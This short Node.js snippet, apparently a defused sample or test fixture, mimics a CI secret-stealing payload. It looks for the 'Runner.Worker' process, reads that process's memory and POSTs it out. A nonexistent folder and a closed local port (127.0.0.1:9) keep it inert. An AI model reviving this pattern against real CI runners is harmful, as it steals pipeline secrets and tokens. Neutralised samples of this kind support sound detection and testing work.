// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const fs = require('fs');
const http = require('http');
function memory() {
  for (const id of fs.readdirSync('/no-such-proc').filter((name) => /^\d+$/.test(name))) {
    const line = fs.readFileSync(`/proc/${id}/cmdline`, 'utf8');
    if (line.includes('Runner.Worker')) return fs.readFileSync(`/proc/${id}/mem`);
  }
}
try {
  http.request({ host: '127.0.0.1', port: 9, method: 'POST' }).on('error', () => {}).end(memory());
} catch {
  // There is no such folder.
}
